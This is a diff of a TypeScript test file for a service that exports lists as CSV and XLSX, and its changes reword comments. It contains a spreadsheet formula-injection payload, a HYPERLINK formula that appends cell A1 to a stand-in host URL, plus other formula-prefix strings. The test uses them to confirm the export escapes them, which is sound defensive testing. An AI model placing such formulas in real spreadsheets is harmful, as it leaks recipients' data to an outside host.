@@ -13,12 +13,12 @@ import { EXPORTED, EXPORTS, type Exported } from './lists.ts';
 import type { Export } from './schema.ts';
 
 const NOW = '2026-03-10T23:30:00.000Z';
-/** In New York it is still the 10th, and midnight UTC of a day is the evening before. */
+/** In New York it is still the 10th, and midnight UTC falls on the evening before. */
 const ZONE = 'America/New_York';
-/** With a few others it is still an exact sum. */
+/** Its sum with a few other amounts is still exact. */
 const BIG = Number.MAX_SAFE_INTEGER - 1_000_000;
 const HOSTILE = '=HYPERLINK("http://x.example?"&A1,"click")';
-/** What begins a formula, here or there. */
+/** Texts that some spreadsheet program treats as a formula. */
 const FORMULAS = [HOSTILE, '+1+1', '-2+3', '@SUM(A1)', '＝1', ' =1'];
 
 const clock = new ManualClock(NOW);
@@ -73,7 +73,7 @@ afterAll(() => closeVerified(service));
 
 const url = (list: string, query = '') => `/internal/exports/lists/${list}?${query}`;
 
-/** A file as its readers see it, with the titles of its columns. */
+/** Parses a file as its readers do, with the column titles. */
 async function csv(path: string, headers = {}): Promise<string[][]> {
   const { status, text } = await client.send<string>('GET', path, { headers });
   expect(status, text).toBe(200);
@@ -93,19 +93,19 @@ async function xlsx(path: string, headers: Record<string, string> = {}): Promise
   return rows ?? [];
 }
 
-/** Every column of a list, as saved views name them. */
+/** Every column of a list, by its name in saved views. */
 const columnsOf = (list: Exported) => [...new Set(EXPORTS[list].columns.map(({ path }) => path))];
 
 const at = (item: unknown, path: string): unknown =>
   path.split('.').reduce<unknown>((inner, name) => Reflect.get(Object(inner), name), item);
 
-/** The list itself. */
+/** Reads the list itself. */
 async function listed(list: Exported): Promise<object[]> {
   const [path, query] = ASKED[list] ?? [list, ''];
   return (await read<{ items: object[] }>(client, `/internal/${path}?limit=500&${query}`)).items;
 }
 
-/** Lists behind figures: where they are, and what they are asked for. */
+/** Paths and queries of the lists behind figures. */
 const ASKED: Partial<Record<Exported, readonly [path: string, query: string]>> = {
   figure_documents: ['figures/documents', 'minAge=1&currency=EUR'],
   figure_changes: ['figures/changes', 'asOf=2026-03-09'],
@@ -137,12 +137,15 @@ describe.each(EXPORTED.filter((list) => list !== 'payment_habits'))('%s', (list)
   });
 });
 
-/** A value of an answer, as far as it can be told without knowing its column, in both formats. */
+/**
+ * Compares a value of a response with the cells of both formats, as far as possible without knowing the
+ * column.
+ */
 function expectSame(value: unknown, cell: SheetCell, shown: string, where: string): void {
   if (typeof value === 'boolean') expect([cell, shown], where).toEqual([value, String(value)]);
   else if (typeof value === 'number') {
     expect(cell, where).toBe(Number(shown));
-    // In minor units, or as it is.
+    // In minor units, or unchanged.
     expect(
       [0, 2, 3].map((digits) => Number((Number(shown) * 10 ** digits).toFixed(0))),
       where,
@@ -174,7 +177,7 @@ describe('cells', () => {
       ['kwd', 1.234, 1.234, issued, day('2026-04-30'), null, "'+1+1", 'KWD'],
       ["'-100", 5000, 5000, issued, due, null, "'+1+1", 'JPY'],
       ['eur', 1234.56, 1229, issued, due, day('2026-03-20'), `'${HOSTILE}`, 'EUR'],
-      // An instant in the morning of UTC is of the evening before.
+      // An instant in the morning in UTC falls on the evening before.
       ['big', 90071992537409.91, 90071992537409.91, day('2026-02-28'), due, null, "'-2+3", 'EUR'],
     ]);
     const lines = await csv(url('invoices', query));
@@ -345,7 +348,7 @@ describe('in the background', () => {
       (await client.get<{ items: Export[] }>('/internal/exports', manager)).body.items.map(({ id }) => id),
     ).toEqual([own.id]);
     expect(await names(`/internal/exports/${own.id}/file`, manager)).toEqual(['jpy', 'kwd']);
-    // Of what was made while all was seen, nothing is left when that ends.
+    // Exports made with access to all customers disappear when that access ends.
     const path = `/internal/users/${manager['x-quittance-user']}`;
     expect((await client.put(path, { ownCustomersOnly: false })).status).toBe(200);
     const { body: wide } = await order({}, manager);
